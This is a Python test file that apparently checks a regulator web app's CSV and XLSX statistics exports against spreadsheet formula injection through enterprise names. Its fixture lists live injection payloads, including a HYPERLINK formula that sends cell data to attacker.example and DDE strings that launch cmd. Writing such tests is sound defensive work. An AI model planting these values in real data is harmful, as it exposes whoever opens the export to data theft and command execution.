"""Attacks on what a request makes the server do or hand out: unbounded work and exported formulas
(issue 15 points 5 and 6)."""

import csv
import io
from datetime import timedelta

import pytest
from openpyxl import load_workbook

from app.devtools.samples import make_enterprise, make_record
from app.domain.clock import today_in_china
from tests.app.conftest import Shop, regulator

REG = "/api/v1/regulator"
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
HOSTILE_NAMES = [
    '=HYPERLINK("http://attacker.example/?"&A1,"点击查看")',
    "+cmd|' /C calc'!A0",
    "@SUM(1)",
    "-2+3+cmd|' /C calc'!A0",
    '\uff1dHYPERLINK("http://attacker.example")',
]
REGION = "320902"  # 亭湖区 (盐城): no other test makes enterprises in that city


@pytest.fixture(scope="module")
def hostile_region(client, admins):
    for n, name in enumerate(HOSTILE_NAMES):
        shop = Shop(client, **{**make_enterprise(name=name), "region_code": REGION})
        r = shop.upload(make_record(f"JS-FORMULA-{n}"))
        assert r.status_code in (200, 201), r.text
    return regulator(client, admins, REGION)


def test_enterprise_names_cannot_plant_formulas_in_csv_exports(client, hostile_region):
    today = today_in_china()
    r = client.get(
        f"{REG}/statistics/export",
        params={
            "start": (today - timedelta(days=30)).isoformat(),
            "end": today.isoformat(),
            "format": "csv",
            "table": "by_enterprise",
        },
        headers=hostile_region.headers,
    )
    assert r.status_code == 200, r.text
    rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
    names = [row[1] for row in rows[1:]]
    for name in HOSTILE_NAMES:
        assert "'" + name in names  # the leading quote makes it text in Excel, WPS, LibreOffice
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_START)


def test_enterprise_names_cannot_plant_formulas_in_xlsx_exports(client, hostile_region):
    today = today_in_china()
    r = client.get(
        f"{REG}/statistics/export",
        params={
            "start": (today - timedelta(days=30)).isoformat(),
            "end": today.isoformat(),
            "format": "xlsx",
        },
        headers=hostile_region.headers,
    )
    assert r.status_code == 200, r.text
    wb = load_workbook(io.BytesIO(r.content))
    seen = {}
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if cell.value in HOSTILE_NAMES:
                    seen[cell.value] = cell
    assert set(seen) == set(HOSTILE_NAMES)
    for cell in seen.values():
        assert cell.data_type == "s" and cell.quotePrefix
